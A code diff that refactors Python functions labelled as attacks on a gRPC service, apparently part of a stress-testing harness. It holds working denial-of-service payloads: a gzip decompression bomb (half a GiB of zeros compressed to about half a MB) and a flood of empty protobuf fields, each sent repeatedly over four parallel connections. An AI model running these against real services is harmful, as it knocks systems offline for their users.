@@ -81,6 +81,20 @@ def stream_ids(number: int, each: int) -> range:
     return range(first, first + 2 * each, 2)
 
 
+def _unary(target: Target, seconds: float, head: bytes, body: bytes) -> None:
+    """One call after the other by four, each on a connection of its own."""
+
+    def one(_: int) -> None:
+        for _ in until(seconds):
+            wire = Wire(target)
+            wire.send(frame(HEADERS, END_HEADERS, 1, head))
+            wire.send_data(1, body)
+            wire.read(1)
+            wire.close()
+
+    together(4, one)
+
+
 # Anybody, without a token.
 
 
@@ -88,32 +102,14 @@ def stream_ids(number: int, each: int) -> range:
 def gzip_bomb(target: Target, seconds: float) -> None:
     bomb = message(gzip.compress(bytes(1 << 29), 9), compressed=True)  # half a MB for half a GiB
     head = call_head(COMPUTE, None, grpc_encoding="gzip")
-
-    def one(_: int) -> None:
-        for _ in until(seconds):
-            wire = Wire(target)
-            wire.send(frame(HEADERS, END_HEADERS, 1, head))
-            wire.send_data(1, bomb)
-            wire.read(1)
-            wire.close()
-
-    together(4, one)
+    _unary(target, seconds, head, bomb)
 
 
 @attack
 def gzip_bomb_with_token(target: Target, seconds: float) -> None:
     bomb = message(gzip.compress(bytes(1 << 29), 9), compressed=True)
     head = call_head(COMPUTE, target.token, grpc_encoding="gzip")
-
-    def one(_: int) -> None:
-        for _ in until(seconds):
-            wire = Wire(target)
-            wire.send(frame(HEADERS, END_HEADERS, 1, head))
-            wire.send_data(1, bomb)
-            wire.read(1)
-            wire.close()
-
-    together(4, one)
+    _unary(target, seconds, head, bomb)
 
 
 @attack
@@ -312,16 +308,7 @@ def json_empty_parts(target: Target, seconds: float) -> None:
 @attack
 def empty_parts_with_token(target: Target, seconds: float) -> None:
     body = message(b"\x12\0" * (8 << 20))
-
-    def one(_: int) -> None:
-        for _ in until(seconds):
-            wire = Wire(target)
-            wire.send(frame(HEADERS, END_HEADERS, 1, call_head(COMPUTE, target.token)))
-            wire.send_data(1, body)
-            wire.read(1)
-            wire.close()
-
-    together(4, one)
+    _unary(target, seconds, call_head(COMPUTE, target.token), body)
 
 
 @attack
